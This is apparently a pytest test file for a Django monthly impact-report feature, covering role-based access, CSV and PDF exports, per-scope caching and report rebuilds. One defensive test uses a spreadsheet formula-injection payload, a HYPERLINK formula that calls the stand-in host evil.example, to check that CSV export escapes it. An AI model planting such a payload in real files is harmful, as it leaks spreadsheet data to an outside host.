import csv
import io
import re
from datetime import date

import pytest
from django.urls import reverse

from saypro.core.models import ManagerScope
from saypro.impact.models import ReportPdf, Snapshot
from saypro.impact.services import snapshot_build
from tests.factories import DepartmentFactory, EnrolmentFactory, ModuleFactory, UserFactory
from tests.factories.core import PASSWORD
from tests.factories.feedback import ContributionFactory, FeedbackSessionFactory
from tests.impact.conftest import at
from tests.permissions import SIGN_IN, person_for, redirect_path

JUNE = date(2026, 6, 1)


@pytest.fixture
def snapshot(june):
    built, _ = snapshot_build(month=JUNE)
    return built


ROLES = ["anonymous", "employee", "mentor", "officer", "manager"]


@pytest.mark.parametrize(
    ("role", "expected"),
    [("anonymous", 302), ("employee", 403), ("mentor", 403), ("officer", 200), ("manager", 200)],
)
@pytest.mark.parametrize("page", ["report", "report-csv", "chart", "report-pdf"])
def test_report_pages_by_role(snapshot, client_for, request, role, expected, page):
    client = client_for(person_for(request, role))
    args = ["2026-06", "participation-trend"] if page == "chart" else ["2026-06"]
    response = client.get(reverse(f"impact:{page}", args=args))
    assert response.status_code == expected
    if expected == 302:
        assert redirect_path(response) == SIGN_IN


@pytest.mark.parametrize(("role", "expected"), [("anonymous", 302), ("employee", 403), ("manager", 403)])
def test_rebuild_refused_to_all_but_officers(snapshot, client_for, request, role, expected):
    response = client_for(person_for(request, role)).post(reverse("impact:rebuild", args=["2026-06"]), {"reason": "x"})
    assert response.status_code == expected
    assert Snapshot.objects.count() == 1


def test_latest_redirects_to_newest_month(snapshot, client_for, manager):
    response = client_for(manager).get(reverse("impact:report-latest"))
    assert response["Location"] == "/impact/2026-06/"


def test_latest_without_any_snapshot_says_so(db, client_for, manager):
    response = client_for(manager).get(reverse("impact:report-latest"))
    assert response.status_code == 200
    assert "No monthly report has been built yet" in response.content.decode()


def test_unknown_or_malformed_month_is_404(snapshot, client_for, manager):
    client = client_for(manager)
    assert client.get("/impact/2026-07/").status_code == 404
    assert client.get("/impact/june/").status_code == 404


def test_report_shows_headline_and_department_table(snapshot, client_for, manager):
    html = client_for(manager).get("/impact/2026-06/").content.decode()
    assert "80% of training participants actively participated in feedback sessions this month" in html
    assert "7 peer learnings shared across departments" in html
    assert 'src="/impact/2026-06/chart/participation-trend.svg"' in html
    # HR has one eligible person: the cell is shown as "fewer than 5", never as a rate.
    assert "fewer than 5" in html


def test_month_without_sessions_says_no_sessions_instead_of_zero(db, client_for, manager):
    snapshot_build(month=date(2026, 2, 1))
    html = client_for(manager).get("/impact/2026-02/").content.decode()
    assert "No feedback sessions were held this month" in html
    assert "0% of training" not in html


def test_department_scoped_manager_sees_only_their_departments(snapshot, june, client_for):
    scoped = UserFactory(roles=["Employee", "Manager"])
    ManagerScope.objects.create(manager=scoped, department=june.departments["Sales"])
    rows = list(csv.reader(io.StringIO(client_for(scoped).get("/impact/2026-06/report.csv").content.decode())))
    department_labels = {row[5] for row in rows[1:] if row[3] == "department"}
    assert department_labels == {"Sales"}


def test_csv_has_one_row_per_figure_and_cell(snapshot, client_for, officer):
    response = client_for(officer).get("/impact/2026-06/report.csv")
    assert response["Content-Disposition"] == 'attachment; filename="impact-2026-06-v1.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["month", "version", "figure", "dimension", "key", "label", "numerator", "denominator", "shown"]
    total = next(r for r in rows if r[2] == "participation" and r[3] == "")
    assert total[6:] == ["4", "5", "80%"]
    assert len(rows) - 1 == snapshot.figures.count()


def test_chart_is_svg_without_scripts_running(snapshot, client_for, manager):
    response = client_for(manager).get("/impact/2026-06/chart/learnings-by-channel.svg")
    assert response["Content-Type"] == "image/svg+xml"
    assert response.content.startswith(b"<svg")
    assert "script-src 'none'" in response["Content-Security-Policy"]
    assert client_for(manager).get("/impact/2026-06/chart/nope.svg").status_code == 404


def test_pdf_request_queues_then_downloads(snapshot, client_for, manager, monkeypatch):
    from saypro.impact import tasks

    queued = []
    monkeypatch.setattr(tasks.snapshot_pdf_task, "apply_async", lambda kwargs: queued.append(kwargs))
    client = client_for(manager)
    response = client.post("/impact/2026-06/report.pdf")
    assert response.status_code == 302
    assert queued == [{"snapshot_id": snapshot.pk, "scope": "all"}]
    assert "Preparing the PDF" in client.get("/impact/2026-06/report.pdf").content.decode()
    client.post("/impact/2026-06/report.pdf")  # asking again while it is on its way queues nothing
    assert len(queued) == 1
    tasks.snapshot_pdf_task(snapshot_id=snapshot.pk, scope="all")
    pdf = client.get("/impact/2026-06/report.pdf")
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")


def test_rebuild_by_officer_with_reason_makes_new_version(snapshot, client_for, officer, monkeypatch):
    from saypro.impact import tasks

    # The broker is down: the request still results in a new version, built in the request.
    def broker_down(**kwargs):
        raise ConnectionError("broker unreachable")

    monkeypatch.setattr(tasks.snapshot_build_task, "apply_async", broker_down)
    response = client_for(officer).post("/impact/2026-06/rebuild/", {"reason": "Restored a hidden insight"})
    assert response.status_code == 302
    newest = Snapshot.objects.get(month=JUNE, version=2)
    assert (newest.requested_by, newest.reason) == (officer, "Restored a hidden insight")


def test_rebuild_without_reason_keeps_snapshot_and_says_why(snapshot, client_for, officer):
    response = client_for(officer).post("/impact/2026-06/rebuild/", {"reason": ""}, follow=True)
    assert "The rebuild needs a reason" in response.content.decode()
    assert Snapshot.objects.count() == 1


def _grow(n: int):
    """Add n more eligible, active people in three more departments to June."""
    module = ModuleFactory()
    session = FeedbackSessionFactory(module=module, state="held", starts_at=at(8))
    for i in range(n):
        person = UserFactory(department=DepartmentFactory(name=f"Grown {i % 3}"))
        EnrolmentFactory(person=person, module=module)
        ContributionFactory(session=session, author=person)


@pytest.mark.parametrize("extra_people", [0, 40])
def test_report_page_query_count_does_not_grow_with_data(june, client_for, manager, django_assert_num_queries,
                                                         extra_people):  # fmt: skip
    _grow(extra_people)
    snapshot_build(month=JUNE)
    snapshot_build(month=date(2026, 5, 1))
    client = client_for(manager)
    client.get("/")  # warm the session
    # 9 cold (16 before issue 12): one read of every snapshot version serves this month, the trend,
    # the month picker and the versions list; the previous month's totals come with the trend;
    # the rebuild button asks the rule, not the model backend's two permission queries (12); the
    # manager's groups and unread count come from the cache (person_cache, warmed by "/") (10),
    # and so does their row (9).
    with django_assert_num_queries(9):
        response = client.get("/impact/2026-06/")
    assert response.status_code == 200
    # 1 cached, the session's (in the database in tests): neither the sections drawn from the
    # snapshot (its figures and the trend's), the month's highlights (three queries), the snapshot
    # versions, the manager's scope nor the PDF asked for are read again (was 4).
    with django_assert_num_queries(1):
        cached = client.get("/impact/2026-06/")
    unmasked = re.compile(rb"[A-Za-z0-9]{64}")  # the CSRF token is masked anew on every page
    assert unmasked.sub(b"", cached.content) == unmasked.sub(b"", response.content)


def _department_rows(html: str) -> list[str]:
    table = html.split('id="departments-table"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<th scope="row">([^<]+)</th>', table)


def test_cached_report_sections_are_never_shared_across_scopes(snapshot, june, client_for, officer):
    """Each scope renders and caches its own sections: a manager never reads another scope's."""
    sales_manager, hr_manager, unscoped = (UserFactory(roles=["Employee", "Manager"]) for _ in range(3))
    ManagerScope.objects.create(manager=sales_manager, department=june.departments["Sales"])
    ManagerScope.objects.create(manager=hr_manager, department=june.departments["HR"])
    everyone = _department_rows(client_for(officer).get("/impact/2026-06/").content.decode())
    assert {"Sales", "HR", "Finance"} <= set(everyone)
    for _ in range(2):  # cold, then from the cache the officer and the other manager filled
        assert _department_rows(client_for(sales_manager).get("/impact/2026-06/").content.decode()) == ["Sales"]
        assert _department_rows(client_for(hr_manager).get("/impact/2026-06/").content.decode()) == ["HR"]
        assert _department_rows(client_for(unscoped).get("/impact/2026-06/").content.decode()) == []
        assert _department_rows(client_for(officer).get("/impact/2026-06/").content.decode()) == everyone


def test_cached_report_sections_follow_a_new_scope_and_a_rebuild(snapshot, june, client_for, manager):
    ManagerScope.objects.filter(manager=manager).delete()
    ManagerScope.objects.create(manager=manager, department=june.departments["Sales"])
    client = client_for(manager)
    assert _department_rows(client.get("/impact/2026-06/").content.decode()) == ["Sales"]
    # The manager's scope grows: the next page is the new scope's, not the cached old one.
    ManagerScope.objects.create(manager=manager, department=june.departments["HR"])
    assert _department_rows(client.get("/impact/2026-06/").content.decode()) == ["HR", "Sales"]
    # A rebuilt month (its newest ready version) is shown at once, with its own figures.
    assert "80% of training participants" in client.get("/impact/2026-06/").content.decode()
    rebuilt, _ = snapshot_build(month=JUNE, rebuild=True, reason="test")
    assert rebuilt.version == 2
    html = client.get("/impact/2026-06/").content.decode()
    assert "Version 2," in html
    # A figure corrected in place (a save, not a new version) is not served stale from the cache.
    figure = rebuilt.figures.get(name="participation", dimension="")
    figure.numerator, figure.denominator = 1, 5
    figure.save()
    html = client.get("/impact/2026-06/").content.decode()
    assert "20% of training participants" in html
    assert "80% of training participants" not in html


def test_comparison_follows_a_rebuilt_previous_month(june, client_for, officer):
    from saypro.impact.models import Figure

    snapshot_build(month=date(2026, 5, 1))
    june_snapshot, _ = snapshot_build(month=JUNE)
    june_held = june_snapshot.figures.get(name="sessions_held", dimension="").numerator
    client = client_for(officer)
    assert "down 38" not in client.get("/impact/2026-06/").content.decode()
    # May is rebuilt with more sessions held: June's comparison, cached against May's first
    # version, is drawn again against the new one.
    rebuilt_may, _ = snapshot_build(month=date(2026, 5, 1), rebuild=True, reason="test")
    Figure.objects.filter(snapshot=rebuilt_may, name="sessions_held", dimension="").update(numerator=june_held + 38)
    assert "down 38" in client.get("/impact/2026-06/").content.decode()


def test_report_lists_the_months_highlights(june, client_for, manager):
    from feedback.models import Contribution
    from reflections.models import NewsletterIssue, NewsletterItem, Reflection

    Contribution.objects.filter(author=june.people["p6"]).update(highlighted=True, text="Ask the quiet ones first")
    r1 = june.objects["r1"]
    Reflection.objects.filter(pk=r1.pk).update(may_be_featured=True, title="Two-minute check-ins")
    issue = NewsletterIssue.objects.create(month=JUNE, title="June", state="published", published_at=at(28))
    NewsletterItem.objects.create(issue=issue, reflection=r1, position=1)
    snapshot_build(month=JUNE)
    html = client_for(manager).get("/impact/2026-06/").content.decode()
    assert "Ask the quiet ones first" in html
    assert f'<a href="/reflections/{r1.pk}/">Two-minute check-ins</a>' in html
    assert "No talks this month." not in html


def test_cached_highlights_follow_a_newly_highlighted_contribution(june, client_for, manager, officer):
    from feedback.services import contribution_flag_set

    snapshot_build(month=JUNE)
    client = client_for(manager)
    assert "No contribution was highlighted." in client.get("/impact/2026-06/").content.decode()
    from feedback.models import Contribution

    contribution = Contribution.objects.filter(author=june.people["p6"]).first()
    contribution.text = "Ask the quiet ones first"
    contribution.save()
    contribution_flag_set(contribution=contribution, flag="highlighted", value=True, by=officer)
    html = client.get("/impact/2026-06/").content.decode()
    assert "Ask the quiet ones first" in html
    assert "No contribution was highlighted." not in html
    contribution_flag_set(contribution=contribution, flag="highlighted", value=False, by=officer)
    assert "No contribution was highlighted." in client.get("/impact/2026-06/").content.decode()


def test_cached_report_page_follows_the_pdf_through_each_state(snapshot, client_for, manager, monkeypatch):
    from saypro.impact import pdf, services, tasks

    monkeypatch.setattr(tasks.snapshot_pdf_task, "apply_async", lambda kwargs: None)
    client = client_for(manager)
    assert "Prepare the PDF" in client.get("/impact/2026-06/").content.decode()

    client.post("/impact/2026-06/report.pdf")
    assert "Preparing the PDF" in client.get("/impact/2026-06/").content.decode()

    def broken(**kwargs):
        raise RuntimeError("the fonts are missing")

    monkeypatch.setattr(pdf, "report_pdf", broken)
    with pytest.raises(RuntimeError):
        services.snapshot_pdf_render(snapshot=snapshot)
    html = client.get("/impact/2026-06/").content.decode()
    assert "The PDF could not be prepared: the fonts are missing" in html
    assert "Try again" in html

    monkeypatch.undo()
    monkeypatch.setattr(tasks.snapshot_pdf_task, "apply_async", lambda kwargs: None)
    client.post("/impact/2026-06/report.pdf")  # try again
    assert "Preparing the PDF" in client.get("/impact/2026-06/").content.decode()
    services.snapshot_pdf_render(snapshot=snapshot)
    assert "Download PDF" in client.get("/impact/2026-06/").content.decode()


def test_cached_report_page_shows_a_pdf_the_sweep_gave_up_on(snapshot, client_for, manager):
    from django.utils import timezone

    from saypro.impact.services import PDF_LEASE, PDF_MAX_ATTEMPTS, snapshot_leases_sweep

    ReportPdf.objects.create(
        snapshot=snapshot, scope="all", status="rendering", claimed_at=timezone.now(), attempts=PDF_MAX_ATTEMPTS
    )
    client = client_for(manager)
    assert "Preparing the PDF" in client.get("/impact/2026-06/").content.decode()

    snapshot_leases_sweep(now=timezone.now() + PDF_LEASE * 2)

    assert "The PDF could not be prepared" in client.get("/impact/2026-06/").content.decode()


def test_cached_versions_list_follows_a_builds_progress_and_its_failure(snapshot, client_for, officer, monkeypatch):
    from saypro.impact import services

    client = client_for(officer)
    assert "v1 — Ready" in client.get("/impact/2026-06/").content.decode()
    seen = []

    def page_at(percent: int, step: str) -> None:
        seen.append((percent, f"v2 — Building ({percent}%)" in client.get("/impact/2026-06/").content.decode()))

    snapshot_build(month=JUNE, rebuild=True, reason="test", progress=page_at)
    assert len(seen) > 2 and all(shown for percent, shown in seen if percent < 100), seen
    assert "v2 — Ready" in client.get("/impact/2026-06/").content.decode()

    def stops(*, start, end, progress):
        progress(10, "people")
        raise RuntimeError("the database went away")

    monkeypatch.setattr(services, "collect_figures", stops)
    with pytest.raises(RuntimeError):
        snapshot_build(month=JUNE, rebuild=True, reason="test")
    assert "v3 — Failed" in client.get("/impact/2026-06/").content.decode()


def _pdf_text(client, month: str = "2026-06") -> str:
    """Ask for the PDF, render it as the worker would, download it and return its text."""
    import shutil
    import subprocess
    import tempfile

    from saypro.impact import tasks

    if not shutil.which("pdftotext"):
        pytest.skip("needs pdftotext (poppler-utils) to read the PDF")
    client.post(f"/impact/{month}/report.pdf")
    for pdf in ReportPdf.objects.filter(status="queued"):
        tasks.snapshot_pdf_task(snapshot_id=pdf.snapshot_id, scope=pdf.scope)
    response = client.get(f"/impact/{month}/report.pdf")
    assert response["Content-Type"] == "application/pdf"
    with tempfile.NamedTemporaryFile(suffix=".pdf") as file:
        file.write(response.content)
        file.flush()
        text = subprocess.run(["pdftotext", "-layout", file.name, "-"], capture_output=True, text=True, check=True)
    return " ".join(text.stdout.split())


# The PDF per scope (issue 11: one cached file served every manager). Each scoped manager's PDF
# names their department, and the departments their department's matrix cells pair with, and
# no other; the whole-organisation reader's names all four.
PDF_SCOPES = [
    # (scope, departments that must appear, departments that must not)
    (["IT"], {"IT", "Finance"}, {"HR", "Sales"}),  # IT's only pair: Finance → IT
    (["Sales"], {"Sales", "HR"}, {"IT", "Finance"}),  # Sales' only pair: HR → Sales
    (None, {"Finance", "HR", "IT", "Sales"}, set()),
]


@pytest.mark.parametrize(("scope", "present", "absent"), PDF_SCOPES)
def test_pdf_is_rendered_per_manager_scope(snapshot, june, client, scope, present, absent):
    reader = UserFactory(roles=["Employee", "Manager"])
    for name in scope or [None]:
        ManagerScope.objects.create(manager=reader, department=june.departments[name] if name else None)
    client.force_login(reader)
    text = _pdf_text(client)
    label = "Whole organisation" if scope is None else "Departments: " + ", ".join(scope)
    assert f"Impact report — June 2026 · {label}" in text  # the footer of every page
    for name in present:
        assert re.search(rf"\b{name}\b", text), name
    for name in absent:
        assert not re.search(rf"\b{name}\b", text), name


def test_two_managers_get_two_pdfs_of_one_snapshot(snapshot, june, client):
    it_manager, sales_manager = (UserFactory(roles=["Employee", "Manager"]) for _ in range(2))
    ManagerScope.objects.create(manager=it_manager, department=june.departments["IT"])
    ManagerScope.objects.create(manager=sales_manager, department=june.departments["Sales"])
    client.force_login(it_manager)
    it_text = _pdf_text(client)
    client.force_login(sales_manager)
    sales_text = _pdf_text(client)
    assert "Departments: IT" in it_text and "Sales" not in it_text
    assert "Departments: Sales" in sales_text and "IT" not in sales_text.split()
    it_key, sales_key = (str(june.departments[name].pk) for name in ("IT", "Sales"))
    assert set(ReportPdf.objects.filter(snapshot=snapshot).values_list("scope", flat=True)) == {it_key, sales_key}


def test_csv_keeps_a_formula_department_name_as_text(db, client_for, manager):
    """A department named like a spreadsheet formula reaches the CSV as text, not as a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    department = DepartmentFactory(name=formula)
    module = ModuleFactory()
    session = FeedbackSessionFactory(module=module, state="held", starts_at=at(8))
    for _ in range(5):
        person = UserFactory(department=department)
        EnrolmentFactory(person=person, module=module)
        ContributionFactory(session=session, author=person, department=department)
    snapshot_build(month=JUNE)
    content = client_for(manager).get("/impact/2026-06/report.csv").content.decode()
    labels = [row[5] for row in csv.reader(io.StringIO(content)) if row[3] == "department"]
    assert labels and all(label == "'" + formula for label in labels)
    assert "\n=HYPERLINK" not in content and ",=HYPERLINK" not in content


def test_manager_lands_on_the_report_after_signing_in(snapshot, client, manager):
    response = client.post(reverse("account_login"), {"login": manager.email, "password": PASSWORD})
    assert (response.status_code, response["Location"]) == (302, "/impact/")
    assert client.get("/impact/")["Location"] == "/impact/2026-06/"


def test_rebuild_asked_twice_with_one_token_builds_one_version(snapshot, client_for, officer, monkeypatch):
    import uuid

    from saypro.impact import tasks

    queued = []
    monkeypatch.setattr(tasks.snapshot_build_task, "apply_async", lambda kwargs: queued.append(kwargs))
    data = {"reason": "Restored a hidden insight", "submission_token": str(uuid.uuid4())}
    client = client_for(officer)

    first = client.post("/impact/2026-06/rebuild/", data, follow=True)
    second = client.post("/impact/2026-06/rebuild/", data, follow=True)

    assert len(queued) == 1
    assert "Rebuild requested." in first.content.decode()
    assert "This rebuild was already requested" in second.content.decode()
